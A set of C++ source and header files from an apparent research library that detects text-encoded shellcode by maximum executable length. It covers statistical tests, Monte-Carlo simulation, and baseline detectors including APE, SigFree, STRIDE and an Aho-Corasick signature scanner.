  assert(dof >= 1);
  if (statistic <= 0.0) return 1.0;
  return regularized_gamma_q(static_cast<double>(dof) / 2.0, statistic / 2.0);
}

}  // namespace mel::stats
