#pragma once
// Special functions needed by the statistics substrate. Implemented here so
// the library carries no dependency beyond the standard library:
//  * log-gamma (via std::lgamma),
//  * regularized incomplete gamma P(a,x)/Q(a,x) (series + continued
//    fraction, Numerical-Recipes-style), used for chi-square p-values,
//  * log binomial coefficient.

namespace mel::stats {

/// ln Gamma(x) for x > 0.
[[nodiscard]] double log_gamma(double x);

/// Regularized lower incomplete gamma P(a, x) = gamma(a,x)/Gamma(a).
/// Preconditions: a > 0, x >= 0. Accurate to ~1e-12.
[[nodiscard]] double regularized_gamma_p(double a, double x);

/// Regularized upper incomplete gamma Q(a, x) = 1 - P(a, x).
[[nodiscard]] double regularized_gamma_q(double a, double x);

/// ln C(n, k). Preconditions: 0 <= k <= n.
[[nodiscard]] double log_binomial_coefficient(unsigned long n, unsigned long k);

/// Survival function of the chi-square distribution with `dof` degrees of
/// freedom evaluated at `statistic`: P[X >= statistic].
[[nodiscard]] double chi_square_survival(double statistic, int dof);

}  // namespace mel::stats
