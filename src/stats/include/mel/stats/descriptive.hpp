#pragma once
// Descriptive statistics over samples (means, variance, quantiles) used by
// benches and the PAYL baseline's per-byte frequency models.

#include <span>
#include <vector>

namespace mel::stats {

struct Summary {
  std::size_t count = 0;
  double mean = 0.0;
  double variance = 0.0;  ///< Population variance (divide by count).
  double stddev = 0.0;
  double min = 0.0;
  double max = 0.0;
};

/// Computes a full summary in one pass (Welford). Empty input -> zeros.
[[nodiscard]] Summary summarize(std::span<const double> samples);

/// q-quantile by linear interpolation on the sorted copy, q in [0,1].
/// Precondition: samples non-empty.
[[nodiscard]] double quantile(std::span<const double> samples, double q);

/// Streaming mean/variance accumulator (Welford's algorithm).
class RunningStats {
 public:
  void add(double sample) noexcept;
  [[nodiscard]] std::size_t count() const noexcept { return count_; }
  [[nodiscard]] double mean() const noexcept { return mean_; }
  /// Population variance; 0 when fewer than 2 samples.
  [[nodiscard]] double variance() const noexcept;
  [[nodiscard]] double stddev() const noexcept;

 private:
  std::size_t count_ = 0;
  double mean_ = 0.0;
  double m2_ = 0.0;
};

}  // namespace mel::stats
