#pragma once
// Kolmogorov-Smirnov machinery for comparing an empirical distribution
// (Monte-Carlo / measured MELs) against a model: the KS statistic
// sup_x |F1(x) - F2(x)| and the asymptotic two-sample / one-sample
// p-value via the Kolmogorov distribution's series expansion.

#include <cstdint>
#include <vector>

#include "mel/stats/histogram.hpp"

namespace mel::stats {

struct KsResult {
  double statistic = 0.0;  ///< sup |F1 - F2|.
  double p_value = 1.0;    ///< Asymptotic; small = distributions differ.
};

/// One-sample KS: empirical histogram vs a model CDF sampled on the
/// integer support [lo, hi]. `model_cdf[i]` is P[X <= lo + i].
/// Precondition: histogram non-empty, model_cdf non-empty and
/// non-decreasing.
[[nodiscard]] KsResult ks_test_against_cdf(
    const IntHistogram& empirical, std::int64_t lo,
    const std::vector<double>& model_cdf);

/// Two-sample KS between empirical histograms.
/// Precondition: both non-empty.
[[nodiscard]] KsResult ks_test_two_sample(const IntHistogram& a,
                                          const IntHistogram& b);

/// Kolmogorov distribution survival: P[K > x], series expansion.
[[nodiscard]] double kolmogorov_survival(double x);

}  // namespace mel::stats
