#pragma once
// Exact distribution of the longest success run in n Bernoulli trials.
//
// The paper's closed form (Section 3.1) assumes the valid-run lengths X_i
// are independent geometric variables, ignoring the constraint
// sum X_i = n. This module computes the *exact* law of the longest run by
// dynamic programming, which lets the library measure the approximation
// error instead of asserting it is small (see bench tab_ablation).

#include <cstdint>
#include <span>
#include <vector>

namespace mel::stats {

/// Exact P[L <= x] where L is the longest run of successes in n independent
/// Bernoulli trials, each succeeding with probability q = 1 - p
/// (p = per-trial failure probability, matching the paper's "invalid
/// instruction" probability).
///
/// Recurrence over a(i) = P[no success run longer than x in i trials],
/// conditioning on the position of the first failure:
///   a(i) = sum_{j=1..min(i, x+1)} q^(j-1) p a(i-j)   + [i <= x] q^i
/// Computed with a sliding window in O(n) per x.
///
/// Preconditions: n >= 0, 0 < p <= 1, x >= 0.
[[nodiscard]] double longest_run_cdf_exact(std::int64_t n, double p,
                                           std::int64_t x);

/// Exact PMF: P[L = x] = cdf(x) - cdf(x-1).
[[nodiscard]] double longest_run_pmf_exact(std::int64_t n, double p,
                                           std::int64_t x);

/// Full exact PMF over x = 0..n, truncated after the tail mass falls below
/// `tail_epsilon` (the remaining mass is folded into the last entry's CDF,
/// not the PMF). Returned vector index is x.
[[nodiscard]] std::vector<double> longest_run_pmf_table(std::int64_t n,
                                                        double p,
                                                        double tail_epsilon = 1e-12);

/// Longest run of `true` values in a boolean sequence (utility shared with
/// the Monte-Carlo engine and tests). Returns 0 for an empty sequence.
[[nodiscard]] std::int64_t longest_true_run(const std::vector<bool>& values);

}  // namespace mel::stats
