#pragma once
// Pearson chi-square independence test, used in Section 3.3 of the paper to
// validate that the validity of consecutive instructions is independent
// (the Bernoulli assumption underlying the MEL model).

#include <cstdint>
#include <vector>

namespace mel::stats {

/// A general r x c contingency table of observed frequencies.
class ContingencyTable {
 public:
  /// Creates an r x c table of zeros. Preconditions: rows >= 2, cols >= 2.
  ContingencyTable(int rows, int cols);

  void add(int row, int col, std::uint64_t count = 1);
  [[nodiscard]] std::uint64_t observed(int row, int col) const;
  /// Expected frequency under independence: row_total * col_total / total.
  [[nodiscard]] double expected(int row, int col) const;

  [[nodiscard]] int rows() const noexcept { return rows_; }
  [[nodiscard]] int cols() const noexcept { return cols_; }
  [[nodiscard]] std::uint64_t row_total(int row) const;
  [[nodiscard]] std::uint64_t col_total(int col) const;
  [[nodiscard]] std::uint64_t grand_total() const noexcept { return total_; }

 private:
  int rows_;
  int cols_;
  std::vector<std::uint64_t> cells_;
  std::uint64_t total_ = 0;
};

struct ChiSquareResult {
  double statistic = 0.0;       ///< Pearson X^2 statistic.
  int degrees_of_freedom = 0;   ///< (r-1)(c-1).
  double p_value = 1.0;         ///< P[X^2 >= statistic] under H0.
  /// True when p_value < significance (H0 of independence rejected).
  [[nodiscard]] bool rejects_independence(double significance = 0.05) const {
    return p_value < significance;
  }
};

/// Runs Pearson's chi-square test of independence on the table.
/// Precondition: every marginal total is nonzero.
[[nodiscard]] ChiSquareResult chi_square_independence_test(
    const ContingencyTable& table);

/// Goodness-of-fit: observed counts against expected probabilities.
/// Preconditions: sizes match, probabilities sum to ~1, total > 0.
[[nodiscard]] ChiSquareResult chi_square_goodness_of_fit(
    const std::vector<std::uint64_t>& observed,
    const std::vector<double>& expected_probability);

}  // namespace mel::stats
