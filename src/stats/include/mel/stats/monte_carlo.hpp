#pragma once
// Monte-Carlo engine for the MEL model validation (Figure 1 of the paper):
// toss a p-coin n times, measure the longest run of tails (valid
// instructions) between heads (invalid instructions), repeat for thousands
// of rounds, and report the empirical PMF of the maximum.

#include <cstdint>

#include "mel/stats/histogram.hpp"
#include "mel/util/rng.hpp"

namespace mel::stats {

struct MonteCarloConfig {
  std::int64_t n = 1000;        ///< Trials (instructions) per round.
  double p = 0.175;             ///< Per-trial invalid probability.
  std::uint64_t rounds = 5000;  ///< Independent rounds to aggregate.
  std::uint64_t seed = 1;       ///< PRNG seed; every result is reproducible.
};

/// One round: simulates n Bernoulli trials and returns the longest
/// failure-free (valid) run, i.e. the MEL of the simulated stream.
[[nodiscard]] std::int64_t simulate_mel_round(std::int64_t n, double p,
                                              util::Xoshiro256& rng);

/// Full experiment: `rounds` rounds aggregated into an empirical histogram
/// of the MEL, directly comparable with the model PMF.
[[nodiscard]] IntHistogram simulate_mel_distribution(const MonteCarloConfig& config);

}  // namespace mel::stats
