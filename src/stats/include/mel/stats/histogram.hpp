#pragma once
// Integer-keyed histogram used for empirical MEL distributions (Figure 1
// Monte-Carlo curves, Figure 3 benign/malicious frequency charts).

#include <cstdint>
#include <map>
#include <vector>

namespace mel::stats {

class IntHistogram {
 public:
  void add(std::int64_t value, std::uint64_t count = 1);
  void merge(const IntHistogram& other);

  [[nodiscard]] std::uint64_t total() const noexcept { return total_; }
  [[nodiscard]] bool empty() const noexcept { return total_ == 0; }
  [[nodiscard]] std::uint64_t count(std::int64_t value) const;

  /// Empirical probability mass at `value` (0 when the histogram is empty).
  [[nodiscard]] double pmf(std::int64_t value) const;
  /// Empirical P[X <= value].
  [[nodiscard]] double cdf(std::int64_t value) const;

  [[nodiscard]] std::int64_t min() const;  // Precondition: !empty()
  [[nodiscard]] std::int64_t max() const;  // Precondition: !empty()
  [[nodiscard]] double mean() const;       // Precondition: !empty()
  /// Smallest v with P[X <= v] >= q, q in [0,1]. Precondition: !empty().
  [[nodiscard]] std::int64_t quantile(double q) const;

  /// Sorted (value, count) pairs for rendering.
  [[nodiscard]] std::vector<std::pair<std::int64_t, std::uint64_t>> items() const;

 private:
  std::map<std::int64_t, std::uint64_t> counts_;
  std::uint64_t total_ = 0;
};

}  // namespace mel::stats
