#pragma once
// Elementary discrete distributions used by the MEL model (Section 3 of the
// paper): the Geometric distribution of individual valid-run lengths and the
// Binomial distribution of the invalid-instruction count N ~ B(n, p).
// All mass functions are computed in log space where overflow is possible.

#include <cstdint>

namespace mel::stats {

/// Geometric run-length distribution in the paper's convention: a run of
/// valid instructions terminated by an invalid one, counting the run length
/// X in {0, 1, 2, ...} with success-per-trial probability q = 1 - p of
/// continuing. P[X = x] = (1-p)^x * p,  P[X <= x] = 1 - (1-p)^(x+1).
/// The paper's CDF "1 - (1-p)^x" corresponds to P[X < x]; both are exposed.
class Geometric {
 public:
  /// p = probability that a trial terminates the run. Precondition: 0<p<=1.
  explicit Geometric(double p);

  [[nodiscard]] double p() const noexcept { return p_; }
  [[nodiscard]] double pmf(std::int64_t x) const;
  [[nodiscard]] double cdf(std::int64_t x) const;         // P[X <= x]
  [[nodiscard]] double cdf_strict(std::int64_t x) const;  // P[X < x] (paper)
  [[nodiscard]] double mean() const noexcept;             // (1-p)/p

 private:
  double p_;
};

/// Binomial(n, p): number of invalid instructions among n.
class Binomial {
 public:
  /// Preconditions: n >= 0, 0 <= p <= 1.
  Binomial(std::int64_t n, double p);

  [[nodiscard]] std::int64_t n() const noexcept { return n_; }
  [[nodiscard]] double p() const noexcept { return p_; }
  [[nodiscard]] double pmf(std::int64_t k) const;
  [[nodiscard]] double cdf(std::int64_t k) const;  // P[N <= k], summed pmf
  [[nodiscard]] double mean() const noexcept;
  [[nodiscard]] double variance() const noexcept;

 private:
  double p_;
  std::int64_t n_;
};

}  // namespace mel::stats
