#include "mel/stats/histogram.hpp"

#include <cassert>

namespace mel::stats {

void IntHistogram::add(std::int64_t value, std::uint64_t count) {
  if (count == 0) return;
  counts_[value] += count;
  total_ += count;
}

void IntHistogram::merge(const IntHistogram& other) {
  for (const auto& [value, count] : other.counts_) add(value, count);
}

std::uint64_t IntHistogram::count(std::int64_t value) const {
  const auto it = counts_.find(value);
  return it == counts_.end() ? 0 : it->second;
}

double IntHistogram::pmf(std::int64_t value) const {
  if (total_ == 0) return 0.0;
  return static_cast<double>(count(value)) / static_cast<double>(total_);
}

double IntHistogram::cdf(std::int64_t value) const {
  if (total_ == 0) return 0.0;
  std::uint64_t acc = 0;
  for (const auto& [v, c] : counts_) {
    if (v > value) break;
    acc += c;
  }
  return static_cast<double>(acc) / static_cast<double>(total_);
}

std::int64_t IntHistogram::min() const {
  assert(!empty());
  return counts_.begin()->first;
}

std::int64_t IntHistogram::max() const {
  assert(!empty());
  return counts_.rbegin()->first;
}

double IntHistogram::mean() const {
  assert(!empty());
  double weighted = 0.0;
  for (const auto& [value, count] : counts_) {
    weighted += static_cast<double>(value) * static_cast<double>(count);
  }
  return weighted / static_cast<double>(total_);
}

std::int64_t IntHistogram::quantile(double q) const {
  assert(!empty());
  assert(q >= 0.0 && q <= 1.0);
  const double target = q * static_cast<double>(total_);
  std::uint64_t acc = 0;
  for (const auto& [value, count] : counts_) {
    acc += count;
    if (static_cast<double>(acc) >= target) return value;
  }
  return counts_.rbegin()->first;
}

std::vector<std::pair<std::int64_t, std::uint64_t>> IntHistogram::items() const {
  return {counts_.begin(), counts_.end()};
}

}  // namespace mel::stats
