#include "mel/stats/chi_square.hpp"

#include <cassert>
#include <cmath>
#include <numeric>

#include "mel/stats/special_functions.hpp"

namespace mel::stats {

ContingencyTable::ContingencyTable(int rows, int cols)
    : rows_(rows), cols_(cols), cells_(static_cast<std::size_t>(rows) * cols, 0) {
  assert(rows >= 2 && cols >= 2);
}

void ContingencyTable::add(int row, int col, std::uint64_t count) {
  assert(row >= 0 && row < rows_ && col >= 0 && col < cols_);
  cells_[static_cast<std::size_t>(row) * cols_ + col] += count;
  total_ += count;
}

std::uint64_t ContingencyTable::observed(int row, int col) const {
  assert(row >= 0 && row < rows_ && col >= 0 && col < cols_);
  return cells_[static_cast<std::size_t>(row) * cols_ + col];
}

std::uint64_t ContingencyTable::row_total(int row) const {
  std::uint64_t sum = 0;
  for (int c = 0; c < cols_; ++c) sum += observed(row, c);
  return sum;
}

std::uint64_t ContingencyTable::col_total(int col) const {
  std::uint64_t sum = 0;
  for (int r = 0; r < rows_; ++r) sum += observed(r, col);
  return sum;
}

double ContingencyTable::expected(int row, int col) const {
  assert(total_ > 0);
  return static_cast<double>(row_total(row)) *
         static_cast<double>(col_total(col)) / static_cast<double>(total_);
}

ChiSquareResult chi_square_independence_test(const ContingencyTable& table) {
  assert(table.grand_total() > 0);
  double statistic = 0.0;
  for (int r = 0; r < table.rows(); ++r) {
    for (int c = 0; c < table.cols(); ++c) {
      const double expected = table.expected(r, c);
      assert(expected > 0.0 && "marginal totals must be nonzero");
      const double diff = static_cast<double>(table.observed(r, c)) - expected;
      statistic += diff * diff / expected;
    }
  }
  ChiSquareResult result;
  result.statistic = statistic;
  result.degrees_of_freedom = (table.rows() - 1) * (table.cols() - 1);
  result.p_value = chi_square_survival(statistic, result.degrees_of_freedom);
  return result;
}

ChiSquareResult chi_square_goodness_of_fit(
    const std::vector<std::uint64_t>& observed,
    const std::vector<double>& expected_probability) {
  assert(observed.size() == expected_probability.size());
  assert(observed.size() >= 2);
  const auto total = std::accumulate(observed.begin(), observed.end(),
                                     std::uint64_t{0});
  assert(total > 0);
  double statistic = 0.0;
  for (std::size_t i = 0; i < observed.size(); ++i) {
    const double expected = expected_probability[i] * static_cast<double>(total);
    assert(expected > 0.0);
    const double diff = static_cast<double>(observed[i]) - expected;
    statistic += diff * diff / expected;
  }
  ChiSquareResult result;
  result.statistic = statistic;
  result.degrees_of_freedom = static_cast<int>(observed.size()) - 1;
  result.p_value = chi_square_survival(statistic, result.degrees_of_freedom);
  return result;
}

}  // namespace mel::stats
