#include "mel/stats/descriptive.hpp"

#include <algorithm>
#include <cassert>
#include <cmath>

namespace mel::stats {

void RunningStats::add(double sample) noexcept {
  ++count_;
  const double delta = sample - mean_;
  mean_ += delta / static_cast<double>(count_);
  m2_ += delta * (sample - mean_);
}

double RunningStats::variance() const noexcept {
  if (count_ < 2) return 0.0;
  return m2_ / static_cast<double>(count_);
}

double RunningStats::stddev() const noexcept { return std::sqrt(variance()); }

Summary summarize(std::span<const double> samples) {
  Summary summary;
  if (samples.empty()) return summary;
  RunningStats stats;
  double lo = samples.front();
  double hi = samples.front();
  for (double s : samples) {
    stats.add(s);
    lo = std::min(lo, s);
    hi = std::max(hi, s);
  }
  summary.count = samples.size();
  summary.mean = stats.mean();
  summary.variance = stats.variance();
  summary.stddev = stats.stddev();
  summary.min = lo;
  summary.max = hi;
  return summary;
}

double quantile(std::span<const double> samples, double q) {
  assert(!samples.empty());
  assert(q >= 0.0 && q <= 1.0);
  std::vector<double> sorted(samples.begin(), samples.end());
  std::sort(sorted.begin(), sorted.end());
  const double position = q * static_cast<double>(sorted.size() - 1);
  const auto lower = static_cast<std::size_t>(position);
  const double fraction = position - static_cast<double>(lower);
  if (lower + 1 >= sorted.size()) return sorted.back();
  return sorted[lower] * (1.0 - fraction) + sorted[lower + 1] * fraction;
}

}  // namespace mel::stats
