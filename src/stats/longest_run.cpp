#include "mel/stats/longest_run.hpp"

#include <algorithm>
#include <cassert>
#include <cmath>

namespace mel::stats {

double longest_run_cdf_exact(std::int64_t n, double p, std::int64_t x) {
  assert(n >= 0);
  assert(p > 0.0 && p <= 1.0);
  assert(x >= 0);
  if (n <= x) return 1.0;  // A run longer than x cannot fit.
  const double q = 1.0 - p;

  // a[i] = P[no success run of length > x within i trials].
  // Sliding-window evaluation of the convolution sum: maintain
  //   window = sum_{j=1..x+1} q^(j-1) p a(i-j)
  // and the boundary term q^i for i <= x.
  std::vector<double> a(static_cast<std::size_t>(n) + 1);
  a[0] = 1.0;
  // Powers of q up to x+1, used to add/remove window terms.
  std::vector<double> q_pow(static_cast<std::size_t>(x) + 2);
  q_pow[0] = 1.0;
  for (std::size_t j = 1; j < q_pow.size(); ++j) q_pow[j] = q_pow[j - 1] * q;

  double window = 0.0;
  for (std::int64_t i = 1; i <= n; ++i) {
    // Add the j=1 term for this i: q^0 * p * a[i-1]; all previous terms
    // shift one position deeper, which multiplies them by q.
    window = window * q + p * a[static_cast<std::size_t>(i - 1)];
    // Terms deeper than j = x+1 fall out of the window.
    if (i - 1 >= x + 1) {
      window -= q_pow[static_cast<std::size_t>(x + 1)] * p *
                a[static_cast<std::size_t>(i - x - 2)];
    }
    double value = window;
    if (i <= x) value += q_pow[static_cast<std::size_t>(i)];
    // Clamp tiny negative values arising from floating-point cancellation.
    a[static_cast<std::size_t>(i)] = std::clamp(value, 0.0, 1.0);
  }
  return a[static_cast<std::size_t>(n)];
}

double longest_run_pmf_exact(std::int64_t n, double p, std::int64_t x) {
  assert(x >= 0);
  const double high = longest_run_cdf_exact(n, p, x);
  const double low = x == 0 ? 0.0 : longest_run_cdf_exact(n, p, x - 1);
  return std::max(0.0, high - low);
}

std::vector<double> longest_run_pmf_table(std::int64_t n, double p,
                                          double tail_epsilon) {
  assert(n >= 0);
  std::vector<double> pmf;
  double prev_cdf = 0.0;
  for (std::int64_t x = 0; x <= n; ++x) {
    const double cdf = longest_run_cdf_exact(n, p, x);
    pmf.push_back(std::max(0.0, cdf - prev_cdf));
    prev_cdf = cdf;
    if (1.0 - cdf < tail_epsilon && x > 0) break;
  }
  return pmf;
}

std::int64_t longest_true_run(const std::vector<bool>& values) {
  std::int64_t best = 0;
  std::int64_t current = 0;
  for (bool v : values) {
    if (v) {
      ++current;
      best = std::max(best, current);
    } else {
      current = 0;
    }
  }
  return best;
}

}  // namespace mel::stats
