#include "mel/baselines/stride.hpp"

#include <algorithm>

namespace mel::baselines {

StrideDetector::StrideDetector(StrideConfig config) : config_(config) {}

StrideResult StrideDetector::scan(util::ByteView payload) const {
  StrideResult result;
  if (payload.size() < config_.window) return result;

  const std::vector<std::size_t> reach =
      exec::compute_reach(payload, config_.rules);

  // surviving[j] = execution starting at j clears at least `window` bytes.
  // A sled is a run of `window` consecutive surviving offsets. Track the
  // longest such run.
  std::size_t run = 0;
  for (std::size_t j = 0; j < payload.size(); ++j) {
    const std::size_t target = std::min(j + config_.window, payload.size());
    if (reach[j] >= target) {
      ++run;
      if (run >= config_.window && run > result.sled_length) {
        result.sled_length = run;
        result.sled_offset = j + 1 - run;
      }
    } else {
      run = 0;
    }
  }
  result.alarm = result.sled_length >= config_.window;
  return result;
}

}  // namespace mel::baselines
