#include "mel/baselines/signature_scanner.hpp"

#include <algorithm>
#include <cassert>

namespace mel::baselines {

void SignatureScanner::ensure_built() const {
  if (!dirty_) return;
  automaton_ = AhoCorasick{};
  for (const Signature& signature : signatures_) {
    automaton_.add_pattern(signature.pattern);
  }
  automaton_.build();
  dirty_ = false;
}

void SignatureScanner::add_signatures_from(
    const std::vector<textcode::Shellcode>& corpus,
    std::size_t slice_length) {
  assert(slice_length >= 4);
  for (const textcode::Shellcode& shellcode : corpus) {
    if (shellcode.bytes.size() < 4) continue;
    // The middle of the payload is the most distinctive part (prologues
    // like xor eax,eax / push eax are shared across payloads). Payloads
    // shorter than a slice become whole-payload signatures.
    const std::size_t length =
        std::min(slice_length, shellcode.bytes.size());
    const std::size_t start = (shellcode.bytes.size() - length) / 2;
    Signature signature;
    signature.name = shellcode.name;
    signature.pattern.assign(shellcode.bytes.begin() + start,
                             shellcode.bytes.begin() + start + length);
    signatures_.push_back(std::move(signature));
  }
  dirty_ = true;
}

void SignatureScanner::add_signature(Signature signature) {
  assert(!signature.pattern.empty());
  signatures_.push_back(std::move(signature));
  dirty_ = true;
}

ScanMatch SignatureScanner::scan(util::ByteView payload) const {
  ScanMatch match;
  if (signatures_.empty()) return match;
  ensure_built();
  const auto first = automaton_.find_first(payload);
  if (first.found) {
    match.detected = true;
    match.signature_name = signatures_[first.match.pattern_id].name;
    match.offset = first.match.offset;
  }
  return match;
}

std::vector<ScanMatch> SignatureScanner::scan_all(
    util::ByteView payload) const {
  std::vector<ScanMatch> matches;
  if (signatures_.empty()) return matches;
  ensure_built();
  for (const AhoCorasick::Match& hit : automaton_.find_all(payload)) {
    ScanMatch match;
    match.detected = true;
    match.signature_name = signatures_[hit.pattern_id].name;
    match.offset = hit.offset;
    matches.push_back(std::move(match));
  }
  return matches;
}

}  // namespace mel::baselines
