#include "mel/baselines/sigfree.hpp"

#include <algorithm>
#include <vector>

#include "mel/disasm/decoder.hpp"

namespace mel::baselines {

namespace {

using disasm::Gpr;
using disasm::Instruction;
using disasm::OperandKind;

/// Registers read by an instruction's operands (explicit only; good
/// enough for the def-use heuristic).
std::uint8_t read_mask(const Instruction& insn) {
  std::uint8_t mask = 0;
  for (std::size_t i = 0; i < insn.operand_count; ++i) {
    const auto& op = insn.operands[i];
    if (op.kind == OperandKind::kRegister && op.reg != Gpr::kNone) {
      // The first operand is read only if the opcode reads its dst; we do
      // not track that precisely here — reading is the common case and
      // overcounting uses only strengthens benign chains, which is the
      // conservative direction for this baseline.
      mask |= static_cast<std::uint8_t>(1u << static_cast<int>(op.reg));
    }
    if (op.kind == OperandKind::kMemory) {
      if (op.base != Gpr::kNone) {
        mask |= static_cast<std::uint8_t>(1u << static_cast<int>(op.base));
      }
      if (op.index != Gpr::kNone) {
        mask |= static_cast<std::uint8_t>(1u << static_cast<int>(op.index));
      }
    }
  }
  return mask;
}

/// Register defined by the instruction (first register operand when the
/// opcode writes it), or 0xFF.
std::uint8_t defined_register(const Instruction& insn) {
  if (insn.operand_count == 0) return 0xFF;
  const auto& dst = insn.operands[0];
  if (dst.kind != OperandKind::kRegister || dst.reg == Gpr::kNone) {
    return 0xFF;
  }
  // Heuristic: mov/pop/lea/alu/inc/dec write their first register operand.
  switch (insn.mnemonic) {
    case disasm::Mnemonic::kCmp:
    case disasm::Mnemonic::kTest:
    case disasm::Mnemonic::kPush:
      return 0xFF;
    default:
      return static_cast<std::uint8_t>(dst.reg);
  }
}

}  // namespace

SigFreeDetector::SigFreeDetector(SigFreeConfig config) : config_(config) {}

SigFreeResult SigFreeDetector::scan(util::ByteView payload) const {
  SigFreeResult result;
  const std::vector<Instruction> instructions = disasm::linear_sweep(payload);

  // Segment into valid runs; within each run, an instruction is useful if
  // it defines a register that a later instruction reads before it is
  // redefined, or if it writes memory/stack (its effect escapes).
  std::size_t run_start = 0;
  const auto flush_run = [&](std::size_t run_end) {
    if (run_end <= run_start) return;
    const auto length = static_cast<std::int64_t>(run_end - run_start);
    // Backward pass: which registers are read after each position.
    std::uint8_t live = 0;
    std::int64_t useful = 0;
    for (std::size_t i = run_end; i-- > run_start;) {
      const Instruction& insn = instructions[i];
      const std::uint8_t def = defined_register(insn);
      const bool writes_out = insn.has_flag(disasm::kFlagMemWrite) ||
                              insn.has_flag(disasm::kFlagStackWrite) ||
                              insn.is_branch();
      const bool def_used =
          def != 0xFF && (live & static_cast<std::uint8_t>(1u << def)) != 0;
      if (writes_out || def_used) ++useful;
      if (def != 0xFF) {
        live = static_cast<std::uint8_t>(
            live & ~static_cast<std::uint8_t>(1u << def));
      }
      live |= read_mask(insn);
    }
    if (useful > result.max_useful_count) result.max_useful_count = useful;
    result.max_run_length = std::max(result.max_run_length, length);
  };

  for (std::size_t i = 0; i < instructions.size(); ++i) {
    if (!exec::is_valid_instruction(instructions[i], config_.rules)) {
      flush_run(i);
      run_start = i + 1;
    }
  }
  flush_run(instructions.size());

  result.alarm = result.max_useful_count > config_.useful_threshold;
  return result;
}

}  // namespace mel::baselines
