#include "mel/baselines/ape.hpp"

#include <algorithm>

namespace mel::baselines {

ApeDetector::ApeDetector(ApeConfig config) : config_(config) {}

ApeResult ApeDetector::scan(util::ByteView payload) const {
  ApeResult result;
  if (payload.empty()) return result;

  // Per-offset executable lengths under APE's rules, then sample.
  const std::vector<std::int32_t> lengths =
      exec::compute_execable_lengths(payload, config_.rules);

  util::Xoshiro256 rng(config_.seed);
  const std::size_t samples =
      std::min(config_.sample_count, payload.size());
  for (std::size_t i = 0; i < samples; ++i) {
    const std::size_t position = rng.next_below(payload.size());
    result.max_executable_length =
        std::max<std::int64_t>(result.max_executable_length,
                               lengths[position]);
  }
  result.positions_sampled = samples;
  result.alarm = result.max_executable_length > config_.threshold;
  return result;
}

}  // namespace mel::baselines
