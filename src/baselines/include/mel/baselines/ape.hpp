#pragma once
// APE baseline (Toth & Kruegel, RAID 2002): Abstract Payload Execution.
//
// APE samples random positions in the payload, measures the executable
// length from each sampled position, and raises an alarm when the maximum
// exceeds an experimentally tuned threshold. Its invalidity definition is
// narrow — broken encodings and illegal absolute memory addresses only —
// with none of the text-specific rules (Section 6 of the paper), which is
// exactly why it fails on text malware: benign text already "executes"
// for long stretches under those rules.

#include <cstdint>

#include "mel/exec/mel.hpp"
#include "mel/util/bytes.hpp"
#include "mel/util/rng.hpp"

namespace mel::baselines {

struct ApeConfig {
  /// Random entry positions sampled per payload (APE's efficiency trick;
  /// our paper's detector examines the full content instead).
  std::size_t sample_count = 64;
  /// Experimentally tuned MEL threshold (APE's published operating point
  /// is around 35 for sled detection).
  std::int64_t threshold = 35;
  /// APE's narrow validity definition.
  exec::ValidityRules rules = exec::ValidityRules::ape();
  std::uint64_t seed = 1;
};

struct ApeResult {
  bool alarm = false;
  std::int64_t max_executable_length = 0;
  std::size_t positions_sampled = 0;
};

class ApeDetector {
 public:
  explicit ApeDetector(ApeConfig config = {});

  [[nodiscard]] ApeResult scan(util::ByteView payload) const;

 private:
  ApeConfig config_;
};

}  // namespace mel::baselines
