#pragma once
// Aho-Corasick multi-pattern matcher: the industry-standard automaton
// behind real signature scanners. One pass over the payload matches the
// whole signature database simultaneously, instead of one std::search per
// signature.

#include <cstdint>
#include <string>
#include <vector>

#include "mel/util/bytes.hpp"

namespace mel::baselines {

class AhoCorasick {
 public:
  /// Adds a pattern before build(); returns its id (insertion order).
  /// Precondition: pattern non-empty, not yet built.
  std::size_t add_pattern(util::ByteView pattern);

  /// Freezes the trie and computes failure/output links (BFS).
  void build();
  [[nodiscard]] bool built() const noexcept { return built_; }
  [[nodiscard]] std::size_t pattern_count() const noexcept {
    return pattern_lengths_.size();
  }

  struct Match {
    std::size_t pattern_id = 0;
    std::size_t offset = 0;  ///< Start offset of the match in the text.
  };

  /// All matches (including overlapping ones), in text order.
  /// Precondition: built().
  [[nodiscard]] std::vector<Match> find_all(util::ByteView text) const;

  /// First match only, or nullopt-like {false, ...}. Precondition: built().
  struct FirstMatch {
    bool found = false;
    Match match;
  };
  [[nodiscard]] FirstMatch find_first(util::ByteView text) const;

 private:
  struct Node {
    std::int32_t children[256];
    std::int32_t fail = 0;
    std::int32_t output_link = -1;  ///< Nearest suffix node ending a pattern.
    std::vector<std::int32_t> ids;  ///< Patterns ending exactly here
                                    ///< (several when duplicates are added).
    Node() { for (auto& child : children) child = -1; }
  };

  std::vector<Node> nodes_{Node{}};
  std::vector<std::size_t> pattern_lengths_;
  bool built_ = false;
};

}  // namespace mel::baselines
