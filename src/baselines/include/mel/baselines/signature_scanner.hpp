#pragma once
// Signature scanner — the "commercial AV" analog of the paper's McAfee
// experiment (Section 5.1): a database of byte-pattern signatures
// extracted from known binary shellcodes. It catches every binary worm it
// has a signature for and, by construction, misses their text
// re-encodings, because the rix/Eller transformation shares no byte
// substring with the original payload.

#include <string>
#include <vector>

#include "mel/baselines/aho_corasick.hpp"
#include "mel/textcode/shellcode_corpus.hpp"
#include "mel/util/bytes.hpp"

namespace mel::baselines {

struct Signature {
  std::string name;
  util::ByteBuffer pattern;
};

struct ScanMatch {
  bool detected = false;
  std::string signature_name;  ///< First matching signature.
  std::size_t offset = 0;      ///< Match offset in the payload.
};

class SignatureScanner {
 public:
  /// Builds a database from known shellcodes: one `slice_length`-byte
  /// signature per payload, taken from its distinctive middle section.
  void add_signatures_from(const std::vector<textcode::Shellcode>& corpus,
                           std::size_t slice_length = 12);

  void add_signature(Signature signature);

  [[nodiscard]] std::size_t signature_count() const noexcept {
    return signatures_.size();
  }

  /// Scans the payload for any known signature. One Aho-Corasick pass
  /// matches the whole database simultaneously, as production scanners do.
  ///
  /// Thread-safety: scan()/scan_all() lazily (re)build the automaton on
  /// the first call after a database change (mutable members below), so
  /// unlike MelDetector this scanner is NOT safe for concurrent scans
  /// unless the automaton is warmed first (one scan after the last
  /// add_signature*) and the database is then left untouched.
  [[nodiscard]] ScanMatch scan(util::ByteView payload) const;

  /// All database hits in the payload (forensics; includes overlaps).
  [[nodiscard]] std::vector<ScanMatch> scan_all(util::ByteView payload) const;

 private:
  void ensure_built() const;

  std::vector<Signature> signatures_;
  mutable AhoCorasick automaton_;
  mutable bool dirty_ = true;
};

}  // namespace mel::baselines
