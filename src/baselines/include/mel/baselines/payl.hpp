#pragma once
// PAYL baseline (Wang & Stolfo, RAID 2004): anomalous payload detection
// from n-gram byte statistics.
//
